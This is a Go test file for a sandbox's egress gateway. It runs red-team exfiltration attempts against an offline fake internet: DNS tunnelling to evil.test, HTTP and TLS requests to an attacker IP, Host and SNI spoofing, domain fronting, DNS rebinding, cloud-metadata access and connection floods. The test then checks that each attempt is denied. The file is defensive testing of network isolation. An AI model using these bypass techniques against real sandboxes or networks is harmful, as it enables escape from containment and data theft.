@@ -1,0 +1,483 @@
+// Package egress_test runs the egress red-team cases from inside real
+// sandboxes (namespace driver, in-process server) against an offline fake
+// internet built from network namespaces. The whole package runs in a
+// private network namespace of its own (netnstest), so nothing here can
+// reach, or be reached from, the host's real network.
+package egress_test
+
+import (
+	"bytes"
+	"context"
+	"crypto/rand"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/netip"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/space-sandbox/space/internal/auth"
+	"github.com/space-sandbox/space/internal/bench"
+	"github.com/space-sandbox/space/internal/driver/namespace"
+	"github.com/space-sandbox/space/internal/egress"
+	"github.com/space-sandbox/space/internal/netns"
+	"github.com/space-sandbox/space/internal/netns/netnstest"
+	"github.com/space-sandbox/space/internal/server"
+	"github.com/space-sandbox/space/internal/store/sqlite"
+	"github.com/space-sandbox/space/internal/template"
+)
+
+func TestMain(m *testing.M) { netnstest.Main(m) }
+
+// env is the server under test and the fake internet.
+type env struct {
+	srv    *server.Server
+	cl     *bench.Client
+	key    string
+	wan    *wan
+	tmp    string
+	closed bool
+}
+
+func repoRoot() string {
+	wd, _ := os.Getwd()
+	for d := wd; d != "/"; d = filepath.Dir(d) {
+		if _, err := os.Stat(filepath.Join(d, "go.mod")); err == nil {
+			return d
+		}
+	}
+	return wd
+}
+
+func build(t *testing.T, out, pkg string) {
+	t.Helper()
+	cmd := exec.Command("go", "build", "-o", out, pkg)
+	cmd.Dir = repoRoot()
+	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
+	if b, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("go build %s: %v\n%s", pkg, err, b)
+	}
+}
+
+// start builds the agent and the red-team client, a template holding
+// busybox and the client, the fake internet, and a server with egress on.
+func start(t *testing.T) *env {
+	t.Helper()
+	netnstest.RequireRoot(t)
+	if !netnstest.Inside() {
+		t.Skip("runs only inside its private network namespace")
+	}
+	if _, err := os.Stat("/bin/busybox"); err != nil {
+		t.Skip("needs /bin/busybox for the sandbox template")
+	}
+	ctx := context.Background()
+	tmp, err := os.MkdirTemp("", "space-egress-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	os.Chmod(tmp, 0o711)
+	e := &env{tmp: tmp}
+	t.Cleanup(func() { e.close(t) })
+	bin := filepath.Join(tmp, "bin")
+	os.MkdirAll(bin, 0o755)
+	build(t, filepath.Join(bin, "space"), "./cmd/space")
+	// The rootfs: busybox, the client, and a resolv.conf naming an address
+	// that is not the gateway: DNS is redirected wherever it is sent.
+	root := filepath.Join(tmp, "rootfs")
+	for _, d := range []string{"bin", "etc", "tmp", "proc", "sys", "dev", "root", "run"} {
+		os.MkdirAll(filepath.Join(root, d), 0o755)
+	}
+	build(t, filepath.Join(root, "bin", "rt"), "./test/egress/rtclient")
+	bb, err := os.ReadFile("/bin/busybox")
+	if err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(filepath.Join(root, "bin", "busybox"), bb, 0o755)
+	os.Symlink("busybox", filepath.Join(root, "bin", "sh"))
+	os.WriteFile(filepath.Join(root, "etc", "resolv.conf"), []byte("nameserver 192.0.2.8\n"), 0o644)
+	os.WriteFile(filepath.Join(root, "etc", "hosts"), []byte("127.0.0.1 localhost\n"), 0o644)
+	tplDir := filepath.Join(tmp, "templates")
+	tm, err := template.NewManager(tplDir, template.Options{UIDBase: 100000, UIDCount: 65536})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := tm.Build(ctx, template.BuildRequest{Name: "rt", Source: template.SourceDir, Path: root}, nil); err != nil {
+		tm.Close()
+		t.Fatal(err)
+	}
+	tm.Close()
+
+	if e.wan, err = startWAN(); err != nil {
+		t.Fatal(err)
+	}
+	cfg := server.DefaultConfig()
+	cfg.DataDir = filepath.Join(tmp, "data")
+	if cfg.RunDir, err = os.MkdirTemp("/tmp", "spe"); err != nil {
+		t.Fatal(err)
+	}
+	cfg.TemplateDir = tplDir
+	cfg.Listen, cfg.DataListen = "127.0.0.1:0", "127.0.0.1:0"
+	cfg.Driver = namespace.Name
+	cfg.AgentPath = filepath.Join(bin, "space")
+	cfg.Builtins = nil
+	cfg.WarmPool, cfg.WarmTemplates = 1, []string{"rt"}
+	cfg.Logf = func(f string, a ...any) {
+		if testing.Verbose() {
+			t.Logf("server: "+f, a...)
+		}
+	}
+	cfg.Egress = &server.EgressConfig{
+		Links: netns.Config{Pool: netip.MustParsePrefix("10.200.0.0/24"), IfPrefix: "spt", Table: "space-egress-test"},
+		Gateway: egress.Config{
+			Upstream: netip.MustParseAddrPort(upstreamDNS + ":53"),
+			// The fake internet lives in documentation ranges (test-only).
+			Public:       []netip.Prefix{netip.MustParsePrefix("203.0.113.0/24"), netip.MustParsePrefix("198.51.100.0/24")},
+			MaxConns:     8,
+			HelloTimeout: 2 * time.Second,
+		},
+	}
+	if err := os.MkdirAll(cfg.DataDir, 0o711); err != nil {
+		t.Fatal(err)
+	}
+	st, err := sqlite.Open(ctx, filepath.Join(cfg.DataDir, "space.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, e.key, err = auth.NewKeys(st, time.Now).Create(ctx, "p1", "egress")
+	st.Close()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if e.srv, err = server.Start(ctx, cfg); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(cfg.RunDir) })
+	e.cl = bench.NewClient("http://"+e.srv.Addr(), e.key)
+	return e
+}
+
+func (e *env) close(t *testing.T) {
+	if e.closed {
+		return
+	}
+	e.closed = true
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	if e.srv != nil {
+		// Sandboxes outlive a server: delete them first.
+		if ids, err := e.cl.List(ctx, "running"); err == nil {
+			for _, id := range ids {
+				e.cl.Delete(ctx, id)
+			}
+		}
+		e.srv.Shutdown(ctx)
+		if n := e.srv.Network(); n != nil {
+			n.Links.Destroy()
+		}
+	}
+	if e.wan != nil {
+		e.wan.close()
+	}
+	os.RemoveAll(e.tmp)
+}
+
+// api calls the control API.
+func (e *env) api(t *testing.T, method, path string, body any, out any) int {
+	t.Helper()
+	var rd *bytes.Reader
+	if body != nil {
+		b, _ := json.Marshal(body)
+		rd = bytes.NewReader(b)
+	} else {
+		rd = bytes.NewReader(nil)
+	}
+	req, _ := http.NewRequest(method, "http://"+e.srv.Addr()+path, rd)
+	req.Header.Set("Authorization", "Bearer "+e.key)
+	if body != nil {
+		req.Header.Set("Content-Type", "application/json")
+	}
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	if out != nil {
+		json.NewDecoder(resp.Body).Decode(out)
+	}
+	return resp.StatusCode
+}
+
+type sbx struct {
+	bench.Sandbox
+	instance string
+}
+
+// create makes a sandbox with a network policy and waits until it runs.
+func (e *env) create(t *testing.T, network any) sbx {
+	t.Helper()
+	var ans struct {
+		Operation struct{ ID string } `json:"operation"`
+		Sandbox   struct{ ID string } `json:"sandbox"`
+		Session   struct {
+			Token   string `json:"token"`
+			DataURL string `json:"data_url"`
+		} `json:"session"`
+	}
+	body := map[string]any{"template": "rt"}
+	if network != nil {
+		body["network"] = network
+	}
+	if code := e.api(t, "POST", "/v1/sandboxes", body, &ans); code != http.StatusAccepted {
+		t.Fatalf("create: %d", code)
+	}
+	var op struct {
+		State string
+		Error *struct{ Message string }
+	}
+	e.api(t, "GET", "/v1/operations/"+ans.Operation.ID+"?wait=30s", nil, &op)
+	if op.State != "succeeded" {
+		t.Fatalf("create operation %s: %+v", op.State, op.Error)
+	}
+	var sb struct{ Instance string }
+	e.api(t, "GET", "/v1/sandboxes/"+ans.Sandbox.ID, nil, &sb)
+	return sbx{Sandbox: bench.Sandbox{ID: ans.Sandbox.ID, Token: ans.Session.Token, DataURL: strings.TrimRight(ans.Session.DataURL, "/")}, instance: sb.Instance}
+}
+
+// run executes the red-team client in the sandbox and returns its output.
+func (e *env) run(t *testing.T, sb sbx, args ...string) string {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+	defer cancel()
+	var out bytes.Buffer
+	res, err := e.cl.Exec(ctx, sb.Sandbox, append([]string{"/bin/rt"}, args...), func(b []byte) { out.Write(b) })
+	if err != nil {
+		t.Fatalf("exec %v: %v", args, err)
+	}
+	s := strings.TrimSpace(out.String() + string(res.Stderr))
+	t.Logf("rt %s -> %s", strings.Join(args, " "), s)
+	return s
+}
+
+type netLog struct {
+	Decisions []struct {
+		Proto, Name, Dest, Dialled, Verdict, Rule, Reason string
+	} `json:"decisions"`
+	Counters map[string]uint64 `json:"counters"`
+}
+
+func (e *env) log(t *testing.T, sb sbx) netLog {
+	t.Helper()
+	var l netLog
+	if code := e.api(t, "GET", "/v1/sandboxes/"+sb.ID+"/network/log", nil, &l); code != 200 {
+		t.Fatalf("network log: %d", code)
+	}
+	return l
+}
+
+// denied reports whether the log holds a denial with this reason.
+func (l netLog) denied(reason string) bool {
+	for _, d := range l.Decisions {
+		if d.Verdict == "deny" && d.Reason == reason {
+			return true
+		}
+	}
+	return false
+}
+
+func nonce() string {
+	b := make([]byte, 8)
+	rand.Read(b)
+	return hex.EncodeToString(b)
+}
+
+// result is one row of the red-team table.
+type result struct {
+	mode, id, verdict string
+}
+
+func TestEgress(t *testing.T) {
+	e := start(t)
+	var table []result
+	record := func(mode, id string, bypass, deny, ctrl bool) {
+		v := "PASS"
+		switch {
+		case bypass:
+			v = "FAIL-B"
+			t.Errorf("%s %s: BYPASS", mode, id)
+		case !deny || !ctrl:
+			v = "INVALID"
+			t.Errorf("%s %s: INVALID (deny logged %v, positive control %v)", mode, id, deny, ctrl)
+		}
+		table = append(table, result{mode, id, v})
+	}
+	defer func() {
+		var b strings.Builder
+		fmt.Fprintf(&b, "\n| mode | case | verdict |\n|---|---|---|\n")
+		for _, r := range table {
+			fmt.Fprintf(&b, "| %s | %s | %s |\n", r.mode, r.id, r.verdict)
+		}
+		t.Log(b.String())
+	}()
+
+	t.Run("blocked", func(t *testing.T) {
+		sb := e.create(t, nil) // no policy: blocked
+		n := nonce()
+		// Positive control: the sandbox's own loopback works.
+		ctrl := strings.HasPrefix(e.run(t, sb, "dns", "localhost"), "OK")
+		e.run(t, sb, "dns", n+".evil.test")
+		e.run(t, sb, "dns", "registry.test")
+		e.run(t, sb, "http", attackerIP+":80", attackerIP, "/flag?n="+n)
+		e.run(t, sb, "http", edgeIP+":80", "registry.test", "/?n="+n)
+		e.run(t, sb, "tls", attackerIP+":443", "evil.test", "evil.test", "/flag?n="+n)
+		e.run(t, sb, "udp", attackerIP+":9999", n)
+		e.run(t, sb, "udp", attackerIP+":53", n)
+		l := e.log(t, sb)
+		bypass := e.wan.attackerSaw(n) || e.wan.asked(n) || e.wan.sawEvent(n)
+		record("blocked", "RT-01/05/10 direct, UDP, DNS", bypass, l.denied("blocked"), ctrl)
+		if l.Counters["upstream_sockets"] != 0 {
+			t.Errorf("blocked sandbox caused %d upstream sockets (R17)", l.Counters["upstream_sockets"])
+		}
+		if l.Counters["nft_udp_drop"] < 1 {
+			t.Errorf("udp_drop counter = %d", l.Counters["nft_udp_drop"])
+		}
+		t.Logf("counters: %v", l.Counters)
+	})
+
+	allow := map[string]any{"mode": "allowlist", "allow": []string{"registry.test:443,80", "*.registry.test:443"}}
+	t.Run("allowlist", func(t *testing.T) {
+		sb := e.create(t, allow)
+		ok := func(s string) bool { return strings.Contains(s, "registry ok") }
+		ctrlHTTP := ok(e.run(t, sb, "http", "registry.test:80", "registry.test", "/simple/"))
+		ctrlTLS := ok(e.run(t, sb, "tls", "registry.test:443", "registry.test", "registry.test", "/simple/"))
+		ctrlSub := ok(e.run(t, sb, "tls", "files.registry.test:443", "files.registry.test", "files.registry.test", "/x"))
+		ctrl := ctrlHTTP && ctrlTLS && ctrlSub
+		if !ctrl {
+			t.Errorf("positive controls: http %v tls %v subdomain %v", ctrlHTTP, ctrlTLS, ctrlSub)
+		}
+		type attempt struct {
+			id, reason string
+			args       func(n string) []string
+		}
+		for _, a := range []attempt{
+			{"RT-01 IP literal", "ip_literal", func(n string) []string {
+				return []string{"http", attackerIP + ":80", attackerIP, "/flag?n=" + n}
+			}},
+			{"RT-17 own resolution, allowed Host", "not_resolved", func(n string) []string {
+				return []string{"http", attackerIP + ":80", "registry.test", "/flag?n=" + n}
+			}},
+			{"RT-17 own resolution, allowed SNI", "not_resolved", func(n string) []string {
+				return []string{"tls", attackerIP + ":443", "registry.test", "registry.test", "/flag?n=" + n}
+			}},
+			{"RT-04 shared IP, other Host", "not_allowed", func(n string) []string {
+				return []string{"http", "registry.test:80", "evil-cdn.test", "/flag?n=" + n}
+			}},
+			{"RT-04 shared IP, other SNI", "not_allowed", func(n string) []string {
+				return []string{"tls", "registry.test:443", "evil-cdn.test", "evil-cdn.test", "/flag?n=" + n}
+			}},
+			{"RT-16 suffix confusion", "dns_refused", func(n string) []string { return []string{"dns", "registry.test.evil.test"} }},
+			{"RT-10 DNS tunnel", "dns_refused", func(n string) []string { return []string{"dns", n + ".evil.test"} }},
+			{"RT-12 CNAME exit", "cname_exit", func(n string) []string { return []string{"dns", "cdn-alias.registry.test"} }},
+			{"RT-13 rebinding to internal", "internal_answer", func(n string) []string { return []string{"dns", "tt.registry.test"} }},
+			{"port not allowed", "not_allowed", func(n string) []string {
+				return []string{"http", edgeIP + ":8080", "registry.test", "/flag?n=" + n}
+			}},
+			{"RT-24 Host switch on keep-alive", "host_mismatch", func(n string) []string {
+				return []string{"keepalive", "registry.test:80", "registry.test", "/a", "evil-cdn.test", "/flag?n=" + n}
+			}},
+			{"RT-07/09 no SNI", "no_sni", func(n string) []string {
+				return []string{"tls", "registry.test:443", "", "registry.test", "/flag?n=" + n}
+			}},
+		} {
+			n := nonce()
+			e.run(t, sb, a.args(n)...)
+			l := e.log(t, sb)
+			record("allowlist", a.id, e.wan.attackerSaw(n) || e.wan.attackerSaw("evil-cdn.test /flag"), l.denied(a.reason), ctrl)
+		}
+		n := nonce()
+		e.run(t, sb, "udp", attackerIP+":9999", n)
+		l := e.log(t, sb)
+		record("allowlist", "RT-05 UDP", e.wan.attackerSaw(n), l.Counters["nft_udp_drop"] > 0, ctrl)
+		// RT-20 domain fronting through TLS pass-through: SNI names the
+		// allowed registry, the encrypted Host the attacker tenant on the
+		// same CDN address. Only TLS termination (R10, not built yet) sees
+		// the inner Host; until then this is reported, not failed.
+		fn := nonce()
+		e.run(t, sb, "tls", "registry.test:443", "registry.test", "evil-cdn.test", "/flag?n="+fn)
+		if e.wan.attackerSaw(fn) {
+			table = append(table, result{"allowlist", "RT-20 fronting via pass-through TLS", "KNOWN GAP (needs R10 TLS termination)"})
+		} else {
+			table = append(table, result{"allowlist", "RT-20 fronting via pass-through TLS", "PASS"})
+		}
+		t.Logf("counters: %v", l.Counters)
+	})
+
+	t.Run("open", func(t *testing.T) {
+		sb := e.create(t, map[string]any{"mode": "open"})
+		peer := e.create(t, allow)
+		ctrl := strings.Contains(e.run(t, sb, "http", "registry.test:80", "registry.test", "/"), "registry ok")
+		for _, a := range []struct{ id, addr, reason string }{
+			{"RT-38 metadata", "169.254.169.254:80", "internal"},
+			{"RT-39 host uplink", uplinkIP + ":80", "internal"},
+			{"RT-39 gateway", "10.200.0.1:22", "internal"},
+			{"RT-40 other sandbox", "10.200.0.6:8000", "internal"},
+			{"RT-41 corp LAN", "10.0.0.1:80", "internal"},
+		} {
+			e.run(t, sb, "http", a.addr, "x.test", "/")
+			record("open", a.id, false, e.log(t, sb).denied(a.reason), ctrl)
+		}
+		e.run(t, sb, "dns", "local.test")
+		record("open", "RT-13 DNS answer 127.0.0.1", false, e.log(t, sb).denied("internal_answer"), ctrl)
+		_ = peer
+
+		// Runtime change to blocked: the next connection is refused.
+		if code := e.api(t, "PUT", "/v1/sandboxes/"+sb.ID+"/network", map[string]any{"mode": "blocked"}, nil); code != 200 {
+			t.Fatalf("PUT network: %d", code)
+		}
+		before := e.log(t, sb).Counters["upstream_sockets"]
+		n := nonce()
+		e.run(t, sb, "http", "registry.test:80", "registry.test", "/"+n)
+		l := e.log(t, sb)
+		record("open→blocked", "RT-47 policy swap", e.wan.sawEvent(n), l.denied("blocked"), ctrl)
+		if after := l.Counters["upstream_sockets"]; after != before {
+			t.Errorf("upstream sockets after the swap to blocked: %d -> %d", before, after)
+		}
+		// Back to allowlist works at once.
+		if code := e.api(t, "PUT", "/v1/sandboxes/"+sb.ID+"/network", allow, nil); code != 200 {
+			t.Fatalf("PUT network: %d", code)
+		}
+		if out := e.run(t, sb, "http", "registry.test:80", "registry.test", "/again"); !strings.Contains(out, "registry ok") {
+			t.Errorf("allowlist after swap: %s", out)
+		}
+	})
+
+	t.Run("fail-closed", func(t *testing.T) {
+		sb := e.create(t, allow)
+		// Overload: more connections than MaxConns (8) at once; the excess is
+		// refused and logged, and nothing reaches the attacker.
+		e.run(t, sb, "flood", attackerIP+":4444", "20")
+		l := e.log(t, sb)
+		record("allowlist", "RT-47 overload", e.wan.attackerSaw("4444"), l.denied("overload"), true)
+		// The gateway down for this sandbox: connections fail, no bypass.
+		e.srv.Network().GW.Detach(sb.instance)
+		n := nonce()
+		out := e.run(t, sb, "http", edgeIP+":80", "registry.test", "/"+n)
+		e.run(t, sb, "http", attackerIP+":80", attackerIP, "/"+n)
+		bypass := e.wan.sawEvent(n)
+		record("allowlist", "R1 gateway down", bypass, strings.HasPrefix(out, "ERR"), true)
+	})
+
+	t.Run("api", func(t *testing.T) {
+		var errAns struct{ Error struct{ Code string } }
+		if code := e.api(t, "POST", "/v1/sandboxes", map[string]any{"template": "rt", "network": map[string]any{"mode": "allowlist", "allow": []string{"1.2.3.4"}}}, &errAns); code != 400 {
+			t.Errorf("IP-literal rule: %d %+v", code, errAns)
+		}
+		if code := e.api(t, "POST", "/v1/sandboxes", map[string]any{"template": "rt", "network": map[string]any{"mode": "sideways"}}, nil); code != 400 {
+			t.Errorf("bad mode: %d", code)
+		}
+	})
+}
